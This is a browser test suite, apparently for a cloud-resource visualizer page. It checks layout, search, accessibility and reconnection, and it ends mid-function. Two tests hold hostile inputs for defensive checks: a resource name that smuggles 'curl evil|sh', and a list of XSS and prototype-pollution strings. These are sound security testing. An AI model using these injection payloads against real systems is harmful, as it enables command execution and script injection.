// long
// The page in a browser, on a scripted Troupe.
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { systemClock } from '../../../actors/base/clock.ts';
import { serveVisualizer } from '../../../actors/visualizer/server.ts';
import type { Inspected, Problem, Problems, Tree } from '../../../actors/visualizer/wire.ts';
import { TransientError } from '../../../bus/mod.ts';
import {
  accessibilityProblems,
  assertNoComplaints,
  findBrowser,
  NO_BROWSER,
  openTab,
  startBrowser,
  type Tab,
} from './browser.ts';
import { broken, company, keyOf as companyKey } from './company.ts';
import { COMING_UP, keyOf, Scripted } from './scripted.ts';

const test = suite('page');
const clock = systemClock({ seed: 5 });
const LOOPBACK = '127.0.0.1';
/** Where pictures of the page go, for people to look at; nowhere unless asked. */
const PICTURES = process.env['PICTURES'];

const NETWORK = keyOf('Network', 'shop', 'front');
const SUBNET = keyOf('Subnet', 'shop', 'front-v4');

interface Stage {
  readonly source: Scripted;
  readonly url: string;
  open(hash?: string, options?: Parameters<typeof openTab>[2]): Promise<Tab>;
  /** Ends the server; `again` starts one at the same address. */
  stop(): Promise<void>;
  again(): Promise<void>;
}

let browser: Browser;
test.before(async () => {
  browser = await startBrowser();
});

async function withPage(run: (stage: Stage) => Promise<void>, source = new Scripted(() => clock.now())): Promise<void> {
  let server = await serveVisualizer({ source, clock, token: undefined, address: { host: LOOPBACK, port: 0 } });
  const { url } = server;
  const tabs: Tab[] = [];
  try {
    await run({
      source,
      url,
      async open(hash = '', options = {}) {
        const tab = await openTab(browser, `${url}${hash}`, options);
        tabs.push(tab);
        return tab;
      },
      stop: () => server.close(),
      async again() {
        server = await serveVisualizer({
          source,
          clock,
          token: undefined,
          address: { host: LOOPBACK, port: Number(new URL(url).port) },
        });
      },
    });
    for (const tab of tabs) await assertNoComplaints(tab);
  } finally {
    for (const tab of tabs) await tab.close();
    await server.close();
  }
}

async function picture(page: Page, name: string): Promise<void> {
  if (PICTURES === undefined) return;
  mkdirSync(PICTURES, { recursive: true });
  await page.screenshot({ path: join(PICTURES, `${name}.png`) });
}

/** The state that is lit in the chart. */
function lit(page: Page, path: string): Promise<unknown> {
  return page.locator(`.state.active[data-path="lifecycle.${path}"]`).waitFor();
}

function row(page: Page, name: string) {
  return page.locator(`.row[aria-label^="${name} "]`);
}

/** A small landscape: a network, its subnet that waits for it, and a volume. */
function shop(source: Scripted): void {
  source.add('Network', 'shop', 'front', { state: 'building.creating', tone: 'busy' });
  source.add('Subnet', 'shop', 'front-v4', {
    state: 'claiming.awaitingDependencies',
    tone: 'waiting',
    said: 'Waiting for Network/front to be ready',
    needs: [NETWORK],
  });
  source.add('Volume', 'data', 'disk');
}

/** The demo's landscape, broken in three places. */
function brokenCompany(): Scripted {
  const source = new Scripted(() => clock.now());
  source.put(broken(company(), clock.now()));
  return source;
}

const MEASURED = companyKey('SecurityGroup', 'measured');
const SERVER = companyKey('Server', 'shop-web-1');

test('a landscape comes up while the page is open, and one subnet is followed through its chart', () =>
  withPage(async ({ source, open }) => {
    shop(source);
    const { page } = await open('#by=namespace');
    await row(page, 'front-v4').click();
    await page.locator('.inspector h2', { hasText: 'front-v4' }).waitFor();
    await page.getByRole('tab', { name: 'Chart' }).click();
    await lit(page, 'claiming');
    const places = (): Promise<unknown> =>
      page.evaluate(() =>
        [...document.querySelectorAll('.state rect')].map((each) => [each.getAttribute('x'), each.getAttribute('y')]),
      );
    const before = await places();
    for (const [state, tone, cause] of COMING_UP.slice(1)) {
      source.move(SUBNET, state, tone, { cause });
      await lit(page, state.split('.')[0] ?? '');
      await page.locator('.now code', { hasText: state }).waitFor();
    }
    assert.equal(await places(), before, '35.A3: nothing moves when the state does');
    assert.match(await page.locator('.now').innerText(), /Available/);
    await page.getByRole('button', { name: 'Close' }).click();
    await page.locator('.row.available[aria-label^="front-v4 "]').waitFor();
    // New objects appear, and deleted ones disappear.
    const router = source.add('Router', 'shop', 'edge', { needs: [NETWORK] });
    source.tellNew(router);
    await row(page, 'edge').waitFor();
    source.remove(router.key);
    await row(page, 'edge').waitFor({ state: 'detached' });
  }));

test("35.A1: the demo's 136 objects are all named at 12 pixels on 1440 by 900, with root causes on top and ribbons between groups", () =>
  withPage(async ({ open }) => {
    const { page } = await open('', { viewport: { width: 1440, height: 900 } });
    await page.locator('.root').nth(2).waitFor();
    assert.is(await page.locator('[data-key]').count(), 136);
    const sizes = await page.evaluate(() =>
      [...document.querySelectorAll('.row .mid, .root .mid')].map((each) =>
        Number.parseFloat(getComputedStyle(each).fontSize),
      ),
    );
    assert.is(sizes.length, 136);
    assert.ok(Math.min(...sizes) >= 12, `${Math.min(...sizes)}`);
    assert.equal(await page.locator('.root .b').allInnerTexts(), ['blocks 28', 'blocks 15', 'blocks 4']);
    assert.is(
      await page
        .locator('.root')
        .evaluateAll((all) => all.filter((each) => each.getBoundingClientRect().top > 300).length),
      0,
    );
    await page.locator('.count.failing').first().waitFor();
    assert.is(await page.locator('.count').count(), 5);
    const thickness = await page
      .locator('.ribbon')
      .first()
      .evaluate((each) => getComputedStyle(each).vectorEffect);
    assert.is(thickness, 'non-scaling-stroke');
    // Smaller is another level of detail, and no smaller text.
    const least = (): Promise<number> =>
      page.evaluate(() => {
        const texts = [...document.querySelectorAll('#app *')].filter((each) =>
          [...each.childNodes].some((node) => node.nodeType === 3 && (node.textContent ?? '').trim() !== ''),
        );
        return Math.min(...texts.map((each) => Number.parseFloat(getComputedStyle(each).fontSize)));
      });
    assert.ok((await least()) >= 11);
    await page.getByRole('button', { name: 'Zoom out' }).click();
    await page.locator('.tile').nth(132).waitFor();
    assert.ok((await least()) >= 11);
    await page.getByRole('button', { name: 'Zoom out' }).click();
    await page.locator('.map canvas').first().waitFor();
    assert.ok((await least()) >= 11);
    await page.getByRole('button', { name: 'Fit' }).click();
    await page.locator('.row').first().waitFor();
    await page.keyboard.press('+');
    await page.getByText('125 %').waitFor();
  }, brokenCompany()));

test('35.A1: search dims what does not match and removes nothing; in the list it filters', () =>
  withPage(async ({ open }) => {
    const { page } = await open('', { viewport: { width: 1440, height: 900 } });
    await page.locator('.root').nth(2).waitFor();
    await page.keyboard.press('/');
    await page.keyboard.type('shop waiting');
    await page.locator('.hits', { hasText: 'of 136' }).waitFor();
    await page.locator('.away').first().waitFor();
    const [all, away] = [await page.locator('[data-key]').count(), await page.locator('.away').count()];
    assert.is(all, 136);
    assert.ok(away > 90 && away < 136, `${away}`);
    assert.match(page.url(), /q=shop\+waiting/);
    await page.keyboard.press('Enter');
    await page.locator('.inspector').waitFor();
    await page.keyboard.press('Escape');
    await page.keyboard.press('Escape');
    await page.locator('.inspector').waitFor({ state: 'detached' });
    await page.keyboard.press('l');
    await page.locator('.list').waitFor();
    await page.getByRole('searchbox').fill('shop waiting');
    await page.waitForFunction(
      (count) => Number(document.querySelector('.list table')?.getAttribute('aria-rowcount')) === count + 1,
      136 - away,
    );
    await page.getByRole('searchbox').fill('nothing-is-called-so');
    await page.locator('.nomatch', { hasText: 'nothing-is-called-so' }).waitFor();
    await page.getByRole('button', { name: 'Clear' }).click();
    await page.locator('.nomatch').waitFor({ state: 'detached' });
    // Columns sort, and the address says so.
    await page.getByRole('button', { name: 'Name', exact: true }).click();
    await page.locator('th[aria-sort="ascending"]', { hasText: 'Name' }).waitFor();
    assert.match(page.url(), /sort=name/);
    await page.getByRole('button', { name: /^Waiting/ }).click();
    await page.waitForFunction(() => document.querySelectorAll('.list .st:not(.waiting)').length === 0);
    await page.goBack();
    await page.locator('.list .st.available').first().waitFor();
  }, brokenCompany()));

test('35.A1: a group is drawn with its claims, and an object with its neighbors; both are links', () =>
  withPage(async ({ open }) => {
    const { page } = await open('', { viewport: { width: 1440, height: 900 } });
    await page.getByRole('button', { name: 'shop', exact: true }).click();
    await page.locator('.node.outer', { hasText: 'measured' }).waitFor();
    await page.locator('.beside', { hasText: 'Needed by' }).waitFor();
    assert.match(page.url(), /group=/);
    const [font] = await page.evaluate(() =>
      [...document.querySelectorAll('.node small')].map((each) => getComputedStyle(each).fontSize),
    );
    assert.is(font, '11px');
    await page.locator(`.node[data-key="${SERVER}"]`).click();
    await page.locator('.node.sel', { hasText: 'shop-web-1' }).waitFor();
    await page.locator(`.node[data-key="${MEASURED}"]`).waitFor();
    await page.getByRole('button', { name: 'In its group' }).click();
    await page.locator('.node', { hasText: 'shop-web-3' }).first().waitFor();
    const linked = await open(new URL(page.url()).hash);
    await linked.page.locator('.node.sel', { hasText: 'shop-web-1' }).waitFor();
    // The name of a node includes its state for screen readers.
    assert.match((await linked.page.locator('.node.sel').textContent()) ?? '', /shop-web-1\s+Server\s*, Waiting/);
  }, brokenCompany()));

function details(now: number): Partial<Inspected> {
  const failure = (at: number) => ({
    at,
    type: 'transition',
    traceId: '',
    data: { from: 'reconciling.updating', to: 'backingOff', cause: 'xstate.error.actor.update', failure: 'quota' },
  });
  return {
    causes: [
      { severity: 'person', summary: 'SecurityGroup/measured: 409 OverQuota', advice: 'raise the quota of rules' },
    ],
    history: [
      ...[149, 140, 120, 90, 60, 20].map((seconds) => failure(now - seconds * 1_000)),
      {
        at: now - 20_000,
        type: 'call',
        traceId: '',
        data: { service: 'network', method: 'POST', path: '/v2.0/security-group-rules', status: 409, durationMs: 84 },
      },
    ],
    events: [{ at: now - 22_000, type: 'Warning', reason: 'UpdateFailed', message: '409 OverQuota', count: 6 }],
    object: {
      kind: 'SecurityGroup',
      metadata: { name: 'measured', namespace: 'company-cloud' },
      spec: { resource: { description: 'read by monitoring', rules: [{ protocol: 'tcp' }] } },
      status: {
        resource: { description: 'read by monitoring', rules: [] },
        conditions: [{ type: 'Available', status: 'False', reason: 'Progressing', message: 'x'.repeat(300) }],
      },
    },
  };
}

test('35.A: a graph that is being laid out says so, and only what is made for it scrolls', () =>
  withPage(async ({ open }) => {
    const { page } = await open('');
    await page.locator('.root').first().waitFor();
    const held = Promise.withResolvers<void>();
    await page.route(/elk-worker/, async (route) => {
      await held.promise;
      await route.continue();
    });
    await page.evaluate((hash) => location.assign(hash), `#object=${SERVER}`);
    await page.locator('.laying', { hasText: 'Arranging' }).waitFor();
    assert.is(await page.locator('.node-graph').getAttribute('aria-busy'), 'true');
    held.resolve();
    await page.locator('.node.sel').waitFor();
    assert.is(await page.locator('.laying').count(), 0);
    assert.is(await page.locator('.node-graph').getAttribute('aria-busy'), 'false');
    const beyond = await page.evaluate(() => document.documentElement.scrollHeight - innerHeight);
    assert.is(beyond, 0);
  }, brokenCompany()));

test('35.A2: the summary says what is wrong, what to do, when it is tried again, what waits for it, and the last calls', () => {
  const source = brokenCompany();
  source.details.set(MEASURED, details(clock.now()));
  return withPage(async ({ open }) => {
    const { page } = await open(`#object=${MEASURED}`);
    const panel = page.getByRole('tabpanel', { name: 'Summary' });
    for (const text of [
      'Needs you · retried meanwhile',
      '409 OverQuota',
      'Raise the quota of rules.',
      '6 failed attempts',
      '28 objects',
      '12 Ports',
      '/v2.0/security-group-rules',
      '84 ms',
      'kubectl troupe why securitygroup/measured -n company-cloud',
    ]) {
      await panel.getByText(text).first().waitFor();
    }
    await panel.locator('.ring').waitFor();
    assert.match(await page.title(), /^Failing · SecurityGroup measured · Troupe$/);
    await page.getByRole('tab', { name: 'History' }).click();
    await page.getByText('4 more of the same').waitFor();
    await page.locator('#tab-object').click();
    await page.locator('.diff .specified', { hasText: 'protocol: tcp' }).waitFor();
    await page.getByText('1 difference').waitFor();
    await page.getByText('UpdateFailed').waitFor();
    await page.getByRole('button', { name: 'JSON' }).click();
    await page.locator('pre.whole', { hasText: '"protocol": "tcp"' }).waitFor();
    // One that waits is one click from the cause.
    await page.evaluate((hash) => {
      location.hash = hash;
    }, `#object=${SERVER}`);
    await page.locator('.chain a', { hasText: 'measured' }).first().click();
    await page.locator('.inspector h2', { hasText: /^measured$/ }).waitFor();
  }, source);
});

test('35.A: the tab of the object is as wide as its place, on a phone and beside a graph', () => {
  const source = brokenCompany();
  source.details.set(MEASURED, details(clock.now()));
  return withPage(async ({ open }) => {
    for (const viewport of [
      { width: 390, height: 844 },
      { width: 1280, height: 800 },
    ]) {
      const { page } = await open(`#object=${MEASURED}&panel=object`, { viewport });
      await page.locator('.diff').waitFor();
      const [wide, panel] = await page.evaluate(() =>
        ['.diff', '#panel'].map((each) => document.querySelector(each)?.getBoundingClientRect().width ?? 0),
      );
      assert.ok((wide ?? 0) > (panel ?? 0) * 0.85, `${wide} of ${panel}`);
      assert.ok((await page.evaluate(() => document.documentElement.scrollWidth)) <= viewport.width);
      const lines = await page
        .locator('.tb tbody th')
        .first()
        .evaluate((each) => each.getClientRects().length);
      assert.is(lines, 1, 'no word is broken into letters');
    }
  }, source);
});

test('35.A: how long it fails does not begin again with each attempt', () =>
  withPage(async ({ source, open }) => {
    const began = clock.now() - 600_000;
    source.add('Network', 'shop', 'front', {
      tone: 'failing',
      state: 'backingOff',
      since: began,
      attempts: 7,
      retryAt: clock.now() + 60_000,
    });
    source.details.set(NETWORK, {});
    const { page } = await open(`#object=${NETWORK}`);
    await page.locator('.now', { hasText: /for 10 min/ }).waitFor();
    const tree = source.trees.get(NETWORK) as Tree;
    source.trees.set(NETWORK, { ...tree, attempts: 8, state: 'reconciling.updating' });
    source.tellNew(source.trees.get(NETWORK) as Tree);
    await page.locator('.now', { hasText: 'reconciling.updating' }).waitFor();
    assert.match(await page.locator('.now').innerText(), /for 10 min/);
    await page.getByText('8 failed attempts').waitFor();
  }));

test('35.A4: the slider lands exactly: with its first click, on a mark, and by keys; graph, chart and list are as they were', () =>
  withPage(async ({ source, open }) => {
    shop(source);
    const moments: number[] = [];
    for (const [state, tone, cause] of COMING_UP) {
      source.move(SUBNET, state, tone, { cause });
      moments.push(source.steps.at(-1)?.at ?? 0);
      await clock.sleep(20);
    }
    const volume = keyOf('Volume', 'data', 'disk');
    source.move(volume, 'idle.available', 'available');
    source.remove(volume);
    const { page } = await open(`#object=${SUBNET}&panel=chart`);
    await lit(page, 'idle');
    await page.keyboard.press('[');
    await page.keyboard.press('[');
    await lit(page, 'reconciling');
    await page.locator('.hist.back').waitFor();
    // A link leads to the same moment.
    const second = await open(`#at=${moments[0]}&by=namespace`);
    await second.page.locator('.waiting[aria-label^="front-v4 "]').waitFor();
    assert.is(await second.page.locator('[aria-label^="disk "]').count(), 0, 'it came later');
    await second.page.locator('.around .current', { hasText: 'front-v4' }).waitFor();
    await page.keyboard.press('.');
    await lit(page, 'idle');
    // The first click lands where it was clicked, though what is kept is still being read.
    const third = await open('#layout=list');
    const slider = third.page.getByRole('slider', { name: 'Moment' });
    const box = await slider.boundingBox();
    if (box === null) throw new Error('there is no slider');
    const before = Date.now();
    await third.page.mouse.click(box.x + box.width / 2, box.y + 12);
    await third.page.locator('.hist.back').waitFor();
    const at = Number(new URLSearchParams(new URL(third.page.url()).hash.slice(1)).get('at'));
    const wanted = before - 450_000;
    assert.ok(Math.abs(at - wanted) < 20_000, `${Math.round(at - wanted)} ms beside it`);
    await slider.focus();
    await third.page.keyboard.press('Home');
    await third.page.locator('.hist.back').waitFor();
  }));

test('35.A4: problems are by root cause, the same ones folded, with a command to copy, and few nodes however many there are', () =>
  withPage(async ({ source, open }) => {
    source.fill(2_000);
    const keys = [...source.trees.keys()];
    const problems: Problems['problems'] = keys.slice(0, 600).map((key, index) => ({
      severity: index % 3 === 0 ? 'person' : 'retrying',
      namespace: 'team-01',
      key,
      waiting: keys.slice(600, 1_200),
      summary: `cause ${index} of ${source.trees.get(key)?.kind}/${source.trees.get(key)?.name}`,
      advice: 'mend it',
    }));
    source.problemsNow = { at: 0, problems, leases: [{ name: 'shard.1', holder: 'pod-a' }], services: [], notes: [] };
    const { page } = await open('#view=problems');
    await page.locator('.pc').nth(20).waitFor();
    const nodes = await page.evaluate(() => document.querySelectorAll('*').length);
    assert.ok(nodes < 4_000, `${nodes} nodes`);
    await page.getByRole('button', { name: 'Copy command' }).first().waitFor();
    await page.getByText('pod-a').waitFor();
    await page.locator('.big', { hasText: '600' }).first().waitFor();
    const title = (await page.locator('.prob h2.title').innerText()).split(' ')[0];
    assert.is(await page.locator('.badge').first().innerText(), title, 'the tab counts what the view counts');
  }));

const QUOTA: Problem = {
  severity: 'person',
  namespace: 'shop',
  key: NETWORK,
  waiting: [SUBNET],
  summary: 'quota is used up',
  advice: 'raise it',
};
/** Time after which an object that is chosen as the page opens was read twice, in milliseconds. */
const AGAIN_MS = 2_000;
/** Limit of a wait for a view to become current, in milliseconds: far beyond its pauses, far below that of other waits. */
const CURRENT = { timeout: 30_000 };

test('the problems are read again until the answer is newer than the last change of an object', () =>
  withPage(async ({ source, open }) => {
    shop(source);
    const kept: Problems = { at: clock.now(), problems: [QUOTA], leases: [], services: [], notes: [] };
    let left = 2;
    let asked = 0;
    // The server keeps an answer for a while.
    source.problems = async () => {
      asked += 1;
      return asked === 1 || left-- > 0 ? kept : { ...kept, at: clock.now(), problems: [] };
    };
    const { page } = await open('#view=problems');
    await page.locator('.pc', { hasText: 'Quota is used up' }).waitFor();
    left = 2;
    source.move(NETWORK, 'idle.available', 'available');
    await page.getByText('No problems').waitFor(CURRENT);
    const current = asked;
    await clock.sleep(4_000);
    assert.is(asked, current, 'a current answer is not read again at once');
  }));

test('problems that cannot be read are shown as they were, with the reason, and read again', () =>
  withPage(async ({ source, open }) => {
    shop(source);
    const { problems } = source;
    source.problemsNow = { at: 0, problems: [QUOTA], leases: [], services: [], notes: [] };
    const { page } = await open('#view=problems');
    await page.locator('.pc', { hasText: 'Quota is used up' }).waitFor();
    source.problems = () => Promise.reject(new TransientError('cannot list subnets'));
    source.move(NETWORK, 'idle.available', 'available');
    await page.locator('.bad', { hasText: 'cannot list subnets' }).waitFor(CURRENT);
    await page.locator('.pc', { hasText: 'Quota is used up' }).waitFor();
    source.problemsNow = { ...source.problemsNow, problems: [] };
    source.problems = problems;
    await page.getByText('No problems').waitFor(CURRENT);
    await page.locator('.bad').waitFor({ state: 'detached' });
  }));

test('the summary shows no root cause that is over: it is read again when an object of the chain changes', () =>
  withPage(async ({ source, open }) => {
    shop(source);
    source.details.set(SUBNET, {
      chain: [
        { depth: 0, key: SUBNET, label: 'Subnet/front-v4', standing: 'waiting', said: '' },
        { depth: 1, key: NETWORK, label: 'Network/front', standing: 'failing', said: '' },
      ],
      causes: [{ severity: 'person', summary: 'Network/front: quota is used up', advice: 'raise it' }],
    });
    const { page } = await open(`#object=${SUBNET}`);
    const cause = page.locator('.inspector').getByText('Quota is used up').first();
    await cause.waitFor();
    await clock.sleep(AGAIN_MS);
    source.details.delete(SUBNET);
    source.move(NETWORK, 'reconciling.updating', 'busy');
    await cause.waitFor({ state: 'detached', ...CURRENT });
  }));

test('an object that cannot be read is read again', () =>
  withPage(async ({ source, open }) => {
    shop(source);
    const { inspect } = source;
    source.inspect = () => Promise.reject(new TransientError('the API server is away'));
    const { page } = await open(`#object=${SUBNET}`);
    await page.locator('.inspector .bad', { hasText: 'the API server is away' }).waitFor();
    await clock.sleep(AGAIN_MS);
    source.inspect = inspect;
    await page.locator('.inspector .bad').waitFor({ state: 'detached', ...CURRENT });
    await page.getByText('Waiting for Network/front to be ready').waitFor(CURRENT);
  }));

test('a history that cannot be read is read again', () =>
  withPage(async ({ source, open }) => {
    shop(source);
    source.move(NETWORK, 'building.creating', 'busy', { cause: 'lifecycle.started' });
    source.move(NETWORK, 'idle.available', 'available');
    const { history } = source;
    source.history = () => Promise.reject(new TransientError('the bus is away'));
    const { page } = await open('#view=timeline');
    await page.getByText('nothing is kept from before').waitFor();
    await clock.sleep(AGAIN_MS);
    source.history = history;
    await page.locator('.tl').waitFor(CURRENT);
  }));

test('a missing object whose name is hostile offers no command', () =>
  withPage(async ({ source, open }) => {
    const missing = keyOf('Network', 'shop', 'net\ncurl evil|sh\n#');
    source.add('Subnet', 'shop', 'front-v4', { state: 'waiting', tone: 'waiting', needs: [missing] });
    source.problemsNow = {
      at: 0,
      problems: [{ ...QUOTA, key: missing }],
      leases: [],
      services: [],
      notes: [],
    };
    const { page } = await open(`#view=problems&object=${encodeURIComponent(missing)}`);
    await page.locator('.inspector').waitFor();
    await page.locator('.pc').waitFor();
    assert.is(await page.getByRole('button', { name: 'Copy command' }).count(), 0);
    assert.is(await page.getByRole('button', { name: 'Copy link' }).count(), 1);
  }));

test('35.A4: the timeline has the critical path on top and ends when all is settled; a part of it is a link', () =>
  withPage(async ({ source, open }) => {
    shop(source);
    source.move(NETWORK, 'building.creating', 'busy', { cause: 'lifecycle.started' });
    source.move(SUBNET, 'claiming.awaitingDependencies', 'waiting', { cause: 'lifecycle.started' });
    await clock.sleep(200);
    source.move(NETWORK, 'idle.available', 'available');
    source.move(SUBNET, 'building.creating', 'busy', { by: NETWORK });
    await clock.sleep(200);
    source.move(SUBNET, 'idle.available', 'available');
    const { page } = await open('#view=timeline');
    await page.locator('.tg[aria-label="Critical path"] .tr.cr').nth(1).waitFor();
    await page.getByText(/Settled after 0\.[3-9] s|Settled after \d/).waitFor();
    const brush = await page.locator('.brush').boundingBox();
    if (brush === null) throw new Error('there is no brush');
    await page.mouse.move(brush.x + 20, brush.y + 30);
    await page.mouse.down();
    await page.mouse.move(brush.x + brush.width / 2, brush.y + 30);
    await page.mouse.up();
    await page.waitForFunction(() => /from=\d+.*to=\d+/.test(location.hash));
  }));

test('35.A: the page says at once that the server is away, is not live meanwhile, and goes on by itself', () =>
  withPage(async ({ source, open, stop, again }) => {
    shop(source);
    const { page, complaints } = await open('#by=namespace');
    await row(page, 'front-v4').waitFor();
    await page.getByRole('button', { name: 'Live', exact: true }).waitFor();
    await stop();
    await page.locator('.trouble', { hasText: 'does not answer' }).waitFor();
    await page.getByRole('button', { name: 'Away' }).waitFor();
    assert.is(await page.locator('.live', { hasText: 'Live' }).count(), 0);
    await row(page, 'front-v4').waitFor();
    source.move(NETWORK, 'idle.available', 'available');
    await again();
    await page.locator('.row.available[aria-label^="front "]').waitFor();
    await page.locator('.trouble').waitFor({ state: 'detached' });
    complaints.length = 0; // what could not be reached meanwhile
  }));

test('35.A: without objects the page says what is connected and what to do next', () =>
  withPage(async ({ source, open }) => {
    const { page } = await open();
    await page.getByRole('heading', { name: 'No objects yet' }).waitFor();
    assert.is(await page.locator('.empty code').count(), 3);
    source.tellNew(source.add('Network', 'shop', 'front'));
    await row(page, 'front').waitFor();
    await page.evaluate(() => {
      location.hash = '#namespace=nowhere';
    });
    await page.getByText("No objects in namespace 'nowhere'").waitFor();
  }));

const HOSTILE = [
  '<img src=x onerror="document.title=1">',
  '__proto__',
  `${'a'.repeat(250)}end`,
  'good\u202egnp.exe',
  '"><script>document.title=1</script>',
  'constructor',
];

test('names and messages are text, whatever is in them', () =>
  withPage(async ({ source, open }) => {
    const trees = HOSTILE.map(
      (name): Tree =>
        source.add('Network', 'shop', name, { said: name, tone: 'failing', state: name, id: name, addresses: [name] }),
    );
    const at = clock.now();
    source.problemsNow = {
      at,
      problems: trees.map(({ key, name }) => ({
        namespace: name,
        severity: 'person',
        key,
        waiting: [key],
        summary: name,
        advice: name,
      })),
      leases: [{ name: HOSTILE[0] ?? '', holder: HOSTILE[1] ?? '' }],
      services: [{ service: HOSTILE[0] ?? '', calls: 2, failed: 1, last: HOSTILE[4] ?? '', at, spans: [] }],
      notes: [{ summary: HOSTILE[0] ?? '', advice: HOSTILE[0] ?? '' }],
    };
    for (const [index, { key, name }] of trees.entries()) {
      const payload = { [name]: name };
      source.details.set(key, {
        object: {
          metadata: { name },
          spec: { resource: { [name]: name } },
          status: { conditions: [{ type: name, status: name, reason: name, message: name }] },
        },
        mail: [{ topic: name, from: key, to: key, at, payload }],
        history: [{ at, type: 'transition', traceId: '', data: { from: name, to: name, cause: name, failure: name } }],
        chain: [{ depth: index, key, label: name, standing: name, said: name }],
        causes: [{ severity: 'person', summary: name, advice: name }],
        events: [{ at, type: name, reason: name, message: name, count: 1 }],
      });
      source.move(key, name, 'failing', { cause: name, failure: name, said: name });
    }
    const { page } = await open();
    const isSeen = async (name: string): Promise<void> => {
      const said = name.replace('\u202e', '\\u202e');
      await page.waitForFunction((text) => document.body.textContent?.includes(text) === true, said);
    };
    for (const layout of ['graph', 'map', 'list']) {
      await page.goto(`${page.url().split('#')[0]}#layout=${layout}`);
      if (layout === 'list') for (const name of HOSTILE) await isSeen(name);
    }
    for (const { key, name } of trees) {
      for (const panel of ['summary', 'chart', 'history', 'messages', 'object']) {
        await page.evaluate(
          (hash) => {
            location.hash = hash;
          },
          `#object=${encodeURIComponent(key)}&panel=${panel}`,
        );
        await isSeen(name);
      }
    }
    for (const view of ['timeline', 'messages', 'problems']) {
      await page.evaluate((name) => {
        location.hash = `#view=${name}`;
      }, view);
      await clock.sleep(150);
    }
    assert.match(await page.title(), /Troupe$/);
    assert.is(await page.locator('#app img:not([src="/page/icon.svg"])').count(), 0);
    assert.is(await page.locator('#app script').count(), 0);
    assert.not.ok(
      await page.evaluate(() => document.body.textContent?.includes('\u202e')),
      'nothing turns text around',
    );
  }));

test('screen readers find names and states; axe-core finds nothing', () => {
  const source = brokenCompany();
  source.details.set(MEASURED, details(clock.now()));
  source.move(SERVER, 'claiming.awaitingDependencies', 'waiting', { said: 'Waiting for Port/shop-web-1 to be ready' });
  source.problemsNow = {
    at: 0,
    problems: [
      {
        namespace: 'company-cloud',
        severity: 'person',
        key: MEASURED,
        waiting: [SERVER],
        summary: 'quota',
        advice: 'raise it',
      },
    ],
    leases: [{ name: 'shard.1', holder: 'pod-a' }],
    services: [
      { service: 'network', calls: 3, failed: 1, last: '503', at: clock.now(), spans: [{ calls: 3, failed: 1 }] },
    ],
    notes: [],
  };
  const group = encodeURIComponent(companyKey('Project', 'shop'));
  return withPage(async ({ open }) => {
    for (const colorScheme of ['light', 'dark'] as const) {
      const { page } = await open('', { colorScheme, viewport: { width: 1440, height: 900 }, reducedMotion: 'reduce' });
      const views: readonly (readonly [hash: string, shown: string])[] = [
        ['#layout=graph', '.root'],
        ['#layout=map', '.map canvas'],
        ['#layout=list', '.list tbody tr'],
        [`#group=${group}`, '.node.outer'],
        [`#object=${MEASURED}`, '.ring'],
        [`#object=${MEASURED}&panel=chart`, '.state.active'],
        [`#object=${MEASURED}&panel=history`, '.history li'],
        [`#object=${SERVER}&panel=messages`, '.mail li'],
        [`#object=${MEASURED}&panel=object`, '.diff'],
        ['#view=timeline', '.tl'],
        [`#view=messages&object=${SERVER}`, '.sequence'],
        ['#view=problems', '.pc'],
        [`#at=${clock.now()}`, '.around'],
      ];
      // The dark theme differs in colors alone, so a few views are enough.
      for (const [hash, shown] of colorScheme === 'light'
        ? views
        : views.filter((_, index) => [0, 4, 5, 8, 11].includes(index))) {
        await page.evaluate((to) => {
          location.hash = to;
        }, hash);
        await page.locator(shown).first().waitFor();
        assert.equal(await accessibilityProblems(page), [], `${colorScheme} ${hash}`);
        await picture(page, `${colorScheme}${hash.replace(/[^a-z]+/gi, '-').slice(0, 40)}`);
      }
    }
  }, source);
});

test('35.A1: a phone begins with the list, has every view, and is readable', () => {
  const source = brokenCompany();
  return withPage(async ({ open }) => {
    const { page } = await open('', { viewport: { width: 390, height: 844 }, colorScheme: 'dark' });
    await page.locator('.home .it').nth(3).waitFor();
    const fits = async (): Promise<boolean> => (await page.evaluate(() => document.documentElement.scrollWidth)) <= 390;
    assert.ok(await fits());
    assert.equal(await accessibilityProblems(page), []);
    await picture(page, 'phone-home');
    // A missing dependency is a root cause, too; of many, the first are listed.
    const wanted = company().find(({ kind }) => kind === 'Port')?.key ?? '';
    source.remove(wanted);
    const waiting = { tone: 'waiting', since: 0, needs: [wanted] } as const;
    source.tellNew(...['a', 'b', 'c'].map((name) => source.add('Volume', 'company-cloud', name, waiting)));
    const [, plural = '', , name = ''] = wanted.split('.');
    await page.locator('.home .it', { hasText: 'does not exist' }).filter({ hasText: name }).waitFor();
    assert.is(plural, 'ports');
    source.tellNew(
      ...Array.from({ length: 9 }, (_, n) => source.add('Volume', 'company-cloud', `bad-${n}`, { tone: 'failed' })),
    );
    await page.locator('.home section:first-child .more', { hasText: 'more root causes' }).waitFor();
    assert.is(await page.locator('.home section:first-child .it').count(), 8);
    await page.locator('.home .it', { hasText: 'measured' }).first().click();
    await page.locator('.inspector').waitFor();
    await page.getByRole('tab', { name: 'Chart' }).click();
    await page.locator('.inline-chart .state.active').waitFor();
    await picture(page, 'phone-chart');
    assert.ok(await fits());
    await page.getByRole('button', { name: 'Close' }).click();
    await page.locator('.inspector').waitFor({ state: 'detached' });
    for (const [name, shown] of [
      ['Messages', '.sequence'],
      ['Timeline', '.tl, .empty'],
      ['Problems', '.prob'],
    ] as const) {
      await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name }).click();
      await page.locator(shown).first().waitFor();
      assert.ok(await page.locator(shown).first().isVisible(), name);
      assert.ok(await fits(), name);
    }
  }, source);
});

test('35.A: on a phone the messages of an object and those of all are shown', () => {
  const source = brokenCompany();
  return withPage(async ({ open }) => {
    const viewport = { width: 390, height: 844 };
    const { page } = await open(`#object=${SERVER}&panel=messages`, { viewport });
    await page.locator('#panel').waitFor();
    assert.ok(((await page.locator('#panel').boundingBox())?.height ?? 0) > 100);
    const all = await open('#view=messages', { viewport });
    await all.page.locator('.sequence').waitFor();
    assert.ok(((await all.page.locator('.sequence').boundingBox())?.height ?? 0) > 100);
  }, source);
});

/** How long 500 objects a second change; CHURN_SECONDS=1800 says whether memory stays bounded for longer. */
const SECONDS = Number(process.env['CHURN_SECONDS'] ?? 6);

/** Of the page, in bytes, after what is garbage went. */
async function memoryOf(page: Page): Promise<number> {
  const session = await page.context().newCDPSession(page);
  await session.send('HeapProfiler.collectGarbage');
